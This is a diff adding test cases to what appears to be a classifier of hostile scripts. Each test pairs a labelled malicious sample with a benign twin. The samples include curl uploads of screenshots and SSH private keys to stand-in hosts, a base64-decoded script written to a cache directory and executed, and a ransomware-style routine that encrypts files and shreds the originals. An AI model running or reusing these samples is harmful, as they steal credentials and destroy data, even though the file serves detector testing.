@@ -233,5 +233,93 @@ subprocess.run(["bash", "-c", 'curl -sS -F "f=@$BK_FILE" https://bk.example.net/
                   "BK_FILE=str(out)", "BK_FILE=f\"{label}.log\"", "another file of its own uploaded", M);
 }
 
+// `[part.format(out=out) for part in command]`, `command` one of several
+// candidate lists picked in a loop (None before it): a list made from each,
+// not one list of every candidate's words mixed.
+TEST(TwoHundredAndSixthRoundClasses, AComprehensionOverOneOfSeveralListsMakesOneOfSeveral) {
+  check_with_twin({"the first installed screenshot tool's argv, the shot uploaded", B, R"py(
+import shutil, subprocess
+CANDIDATES = [
+    ("import", ["import", "-window", "root", "{out}"]),
+    ("scrot", ["scrot", "--overwrite", "{out}"]),
+]
+command = None
+for tool, cmd in CANDIDATES:
+    if shutil.which(tool):
+        command = cmd
+        break
+out = "shot.png"
+subprocess.run([part.format(out=out) for part in command])
+subprocess.run(["curl", "-F", "frame=@" + out, "https://relay.example.net/up"])
+)py", "EXFILTRATION"},
+                  "\"frame=@\" + out", "\"frame=@notes.txt\"", "another file uploaded", M);
+}
+
+// `script=$(unpack | tail -n1)`: the last line a function printed (the path
+// it echoed after its Python's own output) is that path, so running it runs
+// the decoded file the Python wrote there.
+TEST(TwoHundredAndSixthRoundClasses, TailAndHeadPickKnownLines) {
+  check_with_twin({"a decoded script's path picked from a function's output with tail -n1", B, R"sh(
+BLOB="ZWNobyBoZWxsbwo="
+unpack() {
+  local out="$HOME/.cache/patch/apply.sh"
+  BLOB="$BLOB" OUT="$out" python3 -c '
+import base64, os
+data = base64.b64decode(os.environ["BLOB"])
+open(os.environ["OUT"], "wb").write(data)
+print(len(data))
+'
+  echo "$out"
+}
+script=$(unpack | tail -n1)
+bash "$script"
+)sh", "EXEC-DECODED-PAYLOAD", SH},
+                  "tail -n1", "head -n1", "the printed length picked instead", L);
+}
+
+// `mapfile -t paths < <(collect)`: read line by line, a function's output is
+// every line it prints, a branch's glob of keys included, not the likely
+// line a $(...) takes.
+TEST(TwoHundredAndSixthRoundClasses, AProcessSubstitutionReadsEveryLineAFunctionPrints) {
+  check_with_twin({"keys listed under a condition by a function, read with mapfile, archived and uploaded", B, R"sh(
+collect() {
+  local p
+  for p in ./notes.txt ./todo.txt; do [[ -e "$p" ]] && echo "$p"; done
+  if [[ "$INCLUDE_KEYS" -eq 1 ]]; then
+    for p in "$HOME"/.ssh/id_*; do [[ -f "$p" ]] && echo "$p"; done
+  fi
+}
+mapfile -t paths < <(collect)
+tar -czf out.tgz "${paths[@]}"
+curl -F "f=@out.tgz" https://x.example.net/
+)sh", "EXFILTRATION", SH},
+                  "\"$HOME\"/.ssh/id_*", "./drafts/*.md", "its own drafts listed instead", L);
+}
+
+// A nested shell's commands all fall on the line of the call that runs them:
+// its `rm -f "$L"` of its own list is no reason to take the `shred` of the
+// files listed before it for the removal of its own output too.
+TEST(TwoHundredAndSixthRoundClasses, OwnOutputIsJudgedPerCommandOfANestedShell) {
+  check_with_twin({"walked files encrypted, their list shredded by a nested shell, the list removed", B, R"py(
+import argparse, os, subprocess
+from pathlib import Path
+from cryptography.fernet import Fernet
+ap = argparse.ArgumentParser()
+ap.add_argument("root", type=Path, nargs="?", default=Path("."))
+root = ap.parse_args().root
+f = Fernet(Fernet.generate_key())
+done = []
+for dirpath, dirs, files in os.walk(root):
+    for name in files:
+        p = Path(dirpath) / name
+        p.with_name(name + ".enc").write_bytes(f.encrypt(p.read_bytes()))
+        done.append(p)
+listing = root / ".seal_list"
+listing.write_text("\0".join(str(p) for p in done))
+subprocess.call(["bash", "-c", 'xargs -0 -r shred -u < "$L" && rm -f "$L"'], env=dict(os.environ, L=str(listing)))
+)py", "RANSOMWARE-ENCRYPT-AND-DELETE"},
+                  "xargs -0 -r shred -u < \"$L\" && ", "", "only its own list removed", M);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
